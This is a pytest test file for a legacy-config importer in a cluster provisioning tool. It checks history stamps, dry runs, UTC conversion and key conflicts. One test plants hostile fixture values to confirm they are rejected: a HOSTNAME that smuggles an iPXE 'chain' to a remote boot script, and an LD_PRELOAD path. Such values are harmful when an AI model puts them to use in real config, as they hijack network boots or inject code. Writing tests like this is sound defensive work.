    assert {rid: _values(target, rid) for rid in OLD_VALUES} == OLD_VALUES


def test_the_old_updated_time_opens_the_host_history_and_the_store_stamps_its_own(
    bash_era: Path, target: FileStore
) -> None:
    import_legacy(bash_era, target, ACTOR)
    old, *history = target.history(OLD_SCH)
    assert old == Change("2026-11-21T18:29:05Z", "host/525400aabb01", "UPDATED", None,
                         "2026-11-21 18:29:05 UTC", "legacy:clusters/lab/hosts/525400aabb01.conf")
    assert {change.actor for change in history} == {ACTOR}
    assert {change.key for change in history} == set(OLD_VALUES[OLD_SCH])
    stamped = target.get(OLD_SCH, "UPDATED")
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", stamped)
    assert stamped >= old.time


def test_importing_an_old_tree_again_changes_nothing_and_adds_no_history(
    bash_era: Path, target: FileStore
) -> None:
    import_legacy(bash_era, target, ACTOR)
    before = _snapshot(target.layout.root)
    report = import_legacy(bash_era, target, ACTOR)
    assert _snapshot(target.layout.root) == before
    assert report.skipped == []


def test_a_dry_run_of_an_old_tree_writes_nothing_and_reports_the_same(
    bash_era: Path, tmp_path: Path
) -> None:
    store = FileStore(tmp_path / "store")
    before = _snapshot(tmp_path)
    dry = import_legacy(bash_era, store, ACTOR, dry_run=True)
    assert _snapshot(tmp_path) == before
    assert dry == import_legacy(bash_era, store, ACTOR)


def test_hps_api_import_legacy_of_an_old_tree_exits_0(
    cli, bash_era: Path, tmp_path: Path
) -> None:
    fresh = {"HPS_CONFIG_DIR": str(tmp_path / "srv-hps-config")}
    assert cli("hps-api", "init", "--cluster", "lab", env=fresh).returncode == 0
    result = cli("hps-api", "import-legacy", str(bash_era), env=fresh)
    assert (result.returncode, result.stderr) == (0, "")
    assert result.stdout.splitlines()[-1] == (
        "7 records converted, 0 skipped; legacy active cluster: lab")
    history = cli("host_config", "52:54:00:aa:bb:02", "history", env=fresh).stdout
    assert history.splitlines()[0] == (
        "2026-11-21T18:31:40Z  legacy:clusters/lab/hosts/525400aabb02.conf  "
        "UPDATED: (unset) -> 2026-11-21 18:31:40 UTC")
    get = cli("host_config", "52:54:00:aa:bb:02", "get", "virtualization_status", env=fresh)
    assert get.stdout == "enabled\n"


def test_an_old_node_evaluating_host_get_config_after_the_import_finds_its_own_spellings(
    bash_era: Path, tmp_path: Path
) -> None:
    import webtest

    from hps_api import create_app
    from hps_api.settings import Settings

    store = FileStore(tmp_path / "store")
    import_legacy(bash_era, store, ACTOR)
    (tmp_path / "arp").write_text(
        "IP address       HW type     Flags       HW address            Mask     Device\n"
        "10.99.1.20       0x1         0x2         52:54:00:aa:bb:02     *        br0\n")
    settings = Settings(config_dir=store.layout.root, log_dir=tmp_path / "log",
                        arp_table=tmp_path / "arp", dhcp_leases=tmp_path / "leases")
    web = webtest.TestApp(create_app(settings), extra_environ={"REMOTE_ADDR": "10.99.1.20"})
    config = web.get("/cgi-bin/boot_manager.sh?cmd=host_get_config",
                     headers={"User-Agent": "curl/8.5.0"}).text
    (tmp_path / "config").write_text(config)
    result = subprocess.run(
        ["bash", "-c", 'eval "$(cat config)"; echo "$virtualization_status $storage0_interface '
                       '$status $STATE"'],
        cwd=tmp_path, capture_output=True, text=True, timeout=10, check=True)
    assert result.stdout == "enabled eth1.100 rebooting INSTALLED\n"


def test_spellings_already_in_the_store_are_kept_beside_the_imported_ones(
    bash_era: Path, target: FileStore
) -> None:
    target.update(RecordId.of_cluster("lab"), {}, "test:setup", create=True)
    target.update(OLD_NEW, {"RACK_SLOT": "4", "KEY_SPELLINGS": "rack_slot"}, "test:setup",
                  create=True)
    import_legacy(bash_era, target, ACTOR)
    assert target.get(OLD_NEW, "KEY_SPELLINGS") == "arch rack_slot"


def test_a_legacy_active_cluster_that_is_already_the_active_one_is_not_reported(
    bash_era: Path, target: FileStore
) -> None:
    target.update(RecordId.of_cluster("lab"), {}, "test:setup", create=True)
    target.update(RecordId.global_(), {"ACTIVE_CLUSTER": "lab"}, "test:setup", create=True)
    report = import_legacy(bash_era, target, ACTOR)
    assert (report.skipped, report.active_cluster) == ([], "lab")
    assert report.converted[0] == ConvertedRecord("hps.conf", "hps", 5)


@pytest.mark.parametrize(
    ("written", "journaled"),
    [
        ("2026-11-21 18:29:05 UTC", "2026-11-21T18:29:05Z"),
        ("2026-11-21 18:29:05", "2026-11-21T18:29:05Z"),
        ("2026-11-21T18:29:05Z", "2026-11-21T18:29:05Z"),
        ("2026-11-21T19:29:05+01:00", "2026-11-21T18:29:05Z"),
    ],
)
def test_an_old_updated_time_is_journaled_in_utc(
    tmp_path: Path, target: FileStore, written: str, journaled: str
) -> None:
    old = tmp_path / "old"
    _write(old, "clusters/lab/cluster.conf", f'UPDATED="{written}"\n')
    report = import_legacy(old, target, ACTOR)
    assert report.converted[0].updated == journaled
    assert target.history(RecordId.of_cluster("lab"))[-1] == Change(
        journaled, "cluster/lab", "UPDATED", None, written, "legacy:clusters/lab/cluster.conf")


def test_an_updated_that_is_no_time_is_skipped_and_the_store_stamps_its_own(
    tmp_path: Path, target: FileStore
) -> None:
    old = tmp_path / "old"
    _write(old, "clusters/lab/cluster.conf", "NETWORK=10.0.0.0/24\nUPDATED=yesterday\n")
    report = import_legacy(old, target, ACTOR)
    assert report.skipped == [SkippedLine(
        "clusters/lab/cluster.conf", 2, "UPDATED=yesterday",
        "UPDATED is not a date and time (the old system wrote 'YYYY-MM-DD HH:MM:SS UTC'); the "
        "store stamps its own")]
    assert target.get(RecordId.of_cluster("lab"), "UPDATED") != "yesterday"
    assert [c.key for c in target.history(RecordId.of_cluster("lab"))] == ["NETWORK"]


def test_updated_in_hps_conf_is_a_plain_value(tmp_path: Path, target: FileStore) -> None:
    old = tmp_path / "old"
    _write(old, "hps.conf", 'UPDATED="2026-11-21 18:29:05 UTC"\n')
    report = import_legacy(old, target, ACTOR)
    assert target.get(RecordId.global_(), "UPDATED") == "2026-11-21 18:29:05 UTC"
    assert report.converted == [ConvertedRecord("hps.conf", "hps", 1)]


def test_a_lower_case_key_and_its_upper_case_twin_keep_the_upper_case_one_and_report_a_conflict(
    bash_era: Path, target: FileStore
) -> None:
    _write(bash_era, "clusters/lab/hosts/525400aabb02.conf", OLD_TCH_HOST.replace(
        'TYPE="TCH"\n', 'STATUS="UNCONFIGURED"\nTYPE="TCH"\n'))
    report = import_legacy(bash_era, target, ACTOR)
    assert target.get(OLD_TCH, "STATUS") == "UNCONFIGURED"
    assert report.skipped == [SkippedLine(
        "clusters/lab/hosts/525400aabb02.conf", 13, 'status="rebooting"',
        "key conflict: status and STATUS (line 7) are one key in the store; the upper-case one "
        "is kept", conflict=True)]
    assert format_report(report)[-2:] == [
        "skipped clusters/lab/hosts/525400aabb02.conf:13: key conflict: status and STATUS "
        "(line 7) are one key in the store; the upper-case one is kept: 'status=\"rebooting\"'",
        "7 records converted, 1 skipped (1 key conflict); legacy active cluster: lab",
    ]


def test_twins_without_an_upper_case_spelling_keep_the_last_one(
    tmp_path: Path, target: FileStore
) -> None:
    old = tmp_path / "old"
    _write(old, "clusters/lab/cluster.conf", "Dns_Domain=a.example\ndns_domain=b.example\n")
    report = import_legacy(old, target, ACTOR)
    assert target.get(RecordId.of_cluster("lab"), "DNS_DOMAIN") == "b.example"
    assert report.skipped == [SkippedLine(
        "clusters/lab/cluster.conf", 1, "Dns_Domain=a.example",
        "key conflict: Dns_Domain and dns_domain (line 2) are one key in the store; the last one "
        "is kept", conflict=True)]


def test_the_upper_case_spelling_wins_wherever_it_stands(
    tmp_path: Path, target: FileStore
) -> None:
    old = tmp_path / "old"
    _write(old, "clusters/lab/cluster.conf", "arch=a\nARCH=b\narch=c\n")
    report = import_legacy(old, target, ACTOR)
    assert target.get(RecordId.of_cluster("lab"), "ARCH") == "b"
    assert [(s.line, s.conflict) for s in report.skipped] == [(1, True), (3, True)]


def test_a_value_the_store_refuses_is_skipped_and_the_rest_imports(tmp_path: Path,
                                                                   target: FileStore) -> None:
    """A shell-special name or a HOSTNAME that is no DNS label never stops an import (F4, F8)."""
    old = tmp_path / "old"
    _write(old, "clusters/alpha/cluster.conf", 'NAME="alpha"\n')
    _write(old, "clusters/alpha/hosts/52:54:00:aa:bb:01.conf",
           'STATE="INSTALLED"\nHOSTNAME="n1 ; chain http://10.66.6.6/x.ipxe"\n'
           'LD_PRELOAD="/tmp/x.so"\nNOTE="kept"\n')
    report = import_legacy(old, target, ACTOR)
    assert _values(target, HOST1) == {"STATE": "INSTALLED", "NOTE": "kept"}
    reasons = sorted(s.reason for s in report.skipped)
    assert len(reasons) == 2
    assert reasons[0].startswith("HOSTNAME 'n1 ; chain") and "not a host name" in reasons[0]
    assert reasons[1].startswith("LD_PRELOAD is a name shells give a meaning to")
